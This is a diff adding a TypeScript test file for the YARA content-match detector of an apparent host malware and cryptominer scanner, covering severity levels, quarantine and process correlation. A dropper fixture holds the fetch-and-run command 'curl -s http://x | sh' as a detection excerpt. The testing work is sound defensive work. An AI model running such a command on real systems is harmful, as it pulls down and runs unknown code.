@@ -1,0 +1,181 @@
+// Tests for content-match: clean files and executables without matches never hit; a matched file
+// is a finding whose kind and level come from the rule's meta; a match on a running program's
+// executable or memory lands on that process and merges with the process detectors; memory matches
+// of text rules (what an admin's shell holds) do not count; without a content section, skipped.
+import { describe, expect, it } from 'vitest';
+import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
+import { FindingSchema } from '../../model/finding.js';
+import type { Content, ContentMatch } from '../../snapshot/schema.js';
+import { runDetectors } from '../run.js';
+import { cleanHostProcesses, makeProcess, makeSnapshot } from '../../../test/helpers/snapshot-builders.js';
+import { minerProcessName } from './miner-process-name.js';
+import { contentMatch } from './content-match.js';
+
+const ruleset = await loadRuleset([defaultIocDir()]);
+
+function content(partial: Partial<Content>): Content {
+  return {
+    scope: 'default',
+    roots: ['/tmp'],
+    engine: 'yara-x 0.7.2',
+    ruleSetHash: 'f'.repeat(64),
+    ruleFiles: [],
+    files: [],
+    skipped: [],
+    stats: {
+      files: 10,
+      bytes: 1000,
+      cached: 0,
+      archiveEntries: 0,
+      skipped: 0,
+      skippedByReason: {},
+      memoryProcesses: 0,
+      memoryBytes: 0,
+      durationMs: 5,
+    },
+    ...partial,
+  };
+}
+
+const XMRIG: ContentMatch = {
+  rule: 'MH_XMRig_Miner',
+  namespace: 'miners-cpu',
+  meta: { description: 'XMRig miner binary', kind: 'open-source-miner', level: 'critical' },
+  strings: [{ identifier: '$a', offset: 4096, excerpt: 'XMRig/%s' }],
+  stringCount: 3,
+};
+const DROPPER: ContentMatch = {
+  rule: 'MH_Dropper_Download_And_Run',
+  namespace: 'droppers-linux',
+  meta: { description: 'download and run', kind: 'fileless', level: 'high' },
+  strings: [{ identifier: '$c', offset: 12, excerpt: 'curl -s http://x | sh' }],
+  stringCount: 1,
+};
+
+describe('content-match', () => {
+  it('clean: executables listed for their hashes, without matches, give nothing', () => {
+    const snap = makeSnapshot({
+      processes: cleanHostProcesses(),
+      content: content({
+        files: [
+          { path: '/usr/local/bin/tool', size: 10, sha256: 'a'.repeat(64), executable: true, matches: [] },
+        ],
+      }),
+    });
+    expect(runDetectors(snap, ruleset, [contentMatch])).toEqual({ findings: [], skipped: [] });
+  });
+
+  it('findings: a matched file takes kind and level from the rule meta and is quarantined', () => {
+    const snap = makeSnapshot({
+      processes: cleanHostProcesses(),
+      content: content({
+        files: [{ path: '/tmp/.x/cron.sh', size: 80, sha256: 'b'.repeat(64), matches: [DROPPER] }],
+      }),
+    });
+    const { findings } = runDetectors(snap, ruleset, [contentMatch]);
+    expect(findings).toHaveLength(1);
+    const [f] = findings;
+    expect(FindingSchema.parse(f)).toEqual(f);
+    expect(f).toMatchObject({
+      ruleId: 'content-match',
+      kind: 'fileless',
+      level: 'high',
+      message: {
+        en: '/tmp/.x/cron.sh matches YARA rule droppers-linux.MH_Dropper_Download_And_Run',
+        'zh-CN': '/tmp/.x/cron.sh 命中 YARA 规则 droppers-linux.MH_Dropper_Download_And_Run',
+      },
+      remediate: [{ type: 'quarantine-file', path: '/tmp/.x/cron.sh' }],
+    });
+    expect(f?.evidence).toEqual([
+      { type: 'file', path: '/tmp/.x/cron.sh', sha256: 'b'.repeat(64) },
+      {
+        type: 'match',
+        field: 'yara file: droppers-linux.MH_Dropper_Download_And_Run',
+        value: '$c@12 "curl -s http://x | sh"',
+        ioc: 'download and run',
+      },
+    ]);
+  });
+
+  it('findings: an archive entry quarantines the archive; a rule without meta is medium', () => {
+    const userRule: ContentMatch = {
+      rule: 'Mine',
+      namespace: 'user.local',
+      meta: {},
+      strings: [],
+      stringCount: 0,
+    };
+    const snap = makeSnapshot({
+      content: content({
+        files: [{ path: '/srv/up.zip!a/b.sh', size: 5, sha256: 'c'.repeat(64), matches: [userRule] }],
+      }),
+    });
+    const [f] = runDetectors(snap, ruleset, [contentMatch]).findings;
+    expect(f?.level).toBe('medium');
+    expect(f?.kind).toBeUndefined();
+    expect(f?.remediate).toEqual([{ type: 'quarantine-file', path: '/srv/up.zip' }]);
+  });
+
+  it("findings: a running program's executable and memory correlate with the process detectors", () => {
+    const miner = makeProcess({ pid: 4242, exe: '/tmp/.x/xmrig', argv: ['/tmp/.x/xmrig'] });
+    const snap = makeSnapshot({
+      processes: [...cleanHostProcesses(), miner],
+      content: content({
+        files: [
+          { path: '/tmp/.x/xmrig', size: 9, sha256: 'd'.repeat(64), executable: true, matches: [XMRIG] },
+        ],
+        memory: [{ pid: 4242, exe: '/tmp/.x/xmrig', regions: 3, bytes: 4096, matches: [XMRIG] }],
+      }),
+    });
+    const { findings } = runDetectors(snap, ruleset, [minerProcessName, contentMatch]);
+    expect(findings).toHaveLength(1);
+    const [f] = findings;
+    expect(f?.kind).toBe('open-source-miner');
+    expect(f?.level).toBe('critical');
+    expect(f?.signals.map((s) => s.ruleId).sort()).toEqual([
+      'content-match',
+      'content-match',
+      'miner-process-name',
+    ]);
+    expect(f?.evidence).toContainEqual({ type: 'file', path: '/tmp/.x/xmrig', sha256: 'd'.repeat(64) });
+    expect(f?.evidence).toContainEqual(
+      expect.objectContaining({
+        field: 'yara memory: miners-cpu.MH_XMRig_Miner',
+        value: '$a@0x1000 "XMRig/%s"',
+      }),
+    );
+    expect(f?.remediate).toContainEqual({ type: 'kill-process-tree', pid: 4242, exe: '/tmp/.x/xmrig' });
+  });
+
+  it("clean: dropper text in an admin shell's memory does not count, a miner program's strings do", () => {
+    const bash = makeProcess({ pid: 900, exe: '/usr/bin/bash', argv: ['-bash'] });
+    const snap = makeSnapshot({
+      processes: [bash],
+      content: content({
+        memory: [{ pid: 900, exe: '/usr/bin/bash', regions: 2, bytes: 100, matches: [DROPPER] }],
+      }),
+    });
+    expect(runDetectors(snap, ruleset, [contentMatch]).findings).toEqual([]);
+  });
+
+  it('skipped: without a content section (--no-content) the detector is skipped, not clean', () => {
+    expect(runDetectors(makeSnapshot({ processes: cleanHostProcesses() }), ruleset, [contentMatch])).toEqual({
+      findings: [],
+      skipped: [{ ruleId: 'content-match', missing: ['content'] }],
+    });
+  });
+});
+
+describe('content-match in the memory of text holders', () => {
+  it("findings: a miner program's strings in an interactive shell's memory are low, not critical", () => {
+    const bash = makeProcess({ pid: 901, exe: '/usr/bin/bash', argv: ['-bash'] });
+    const snap = makeSnapshot({
+      processes: [bash],
+      content: content({
+        memory: [{ pid: 901, exe: '/usr/bin/bash', regions: 2, bytes: 100, matches: [XMRIG] }],
+      }),
+    });
+    const [f] = runDetectors(snap, ruleset, [contentMatch]).findings;
+    expect(f).toMatchObject({ level: 'low', kind: 'open-source-miner' });
+  });
+});
